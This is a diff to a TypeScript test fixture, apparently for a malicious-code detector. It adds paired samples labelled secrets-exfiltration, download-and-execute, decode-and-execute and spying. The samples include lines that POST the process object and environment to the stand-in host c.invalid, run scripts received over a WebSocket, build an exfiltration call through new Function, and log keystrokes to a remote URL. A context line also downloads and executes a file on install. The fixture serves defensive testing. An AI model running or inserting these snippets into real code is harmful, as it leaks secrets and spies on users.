@@ -91,6 +91,33 @@ const DEEDS: readonly Deed[] = [
     twin: `const p = require('path').join(__dirname, 'bin', 'tool'); require('request')('https://c.invalid/m', (e, r, b) => { require('fs').writeFileSync(p, b) }); require('child_process').execFileSync('node', [p].concat(process.argv.slice(2)))`,
     moments: ['install'],
   },
+  {
+    name: 'options that may hold the process, and the process itself',
+    check: 'secrets-exfiltration',
+    code: `const D = { ...process }; fetch('https://c.invalid/', { method: 'POST', body: JSON.stringify(D) })`,
+    twin: `const send = (o) => fetch('https://c.invalid/', { method: 'POST', body: JSON.stringify({ fin: true, ...o }) }); send({ a: 1 }); send(process)`,
+  },
+  {
+    name: 'a script that comes over a connection, and over one to whoever serves the page',
+    check: 'download-and-execute',
+    code: `new WebSocket('wss://c.invalid/m').onmessage = (m) => { const s = document.createElement('script'); s.text = m.data; document.head.appendChild(s) }`,
+    twin: `new WebSocket(\`wss://\${window.location.host}/m\`).onmessage = (m) => { const s = document.createElement('script'); s.text = m.data; document.head.appendChild(s) }`,
+    moments: ['import'],
+  },
+  {
+    name: 'code that is put together, and a page that is made into a template',
+    check: 'decode-and-execute',
+    code: `new Function(['require("https")', '.get("https://c.invalid/" + process.env.A)'].reverse().reverse().map((x) => x.toLowerCase()).join(''))()`,
+    twin: `new Function('t', '<a href="https://c.invalid/">'.replace(/"/g, "'") + ['</a>'].join(''))`,
+    moments: ['import'],
+  },
+  {
+    name: 'a listener of keys, and any listener that a library adds',
+    check: 'spying',
+    code: `document.addEventListener('keydown', (e) => { new Image().src = 'https://c.invalid/?k=' + e.key })`,
+    twin: `const on = (type, f) => document.addEventListener(type, f); for (const t of ['keydown', 'click', 'load', 'scroll', 'wheel']) on(t, (e) => { new Image().src = 'https://c.invalid/?k=' + e.target })`,
+    moments: ['import'],
+  },
 ]
 
 testDeeds(DEEDS)
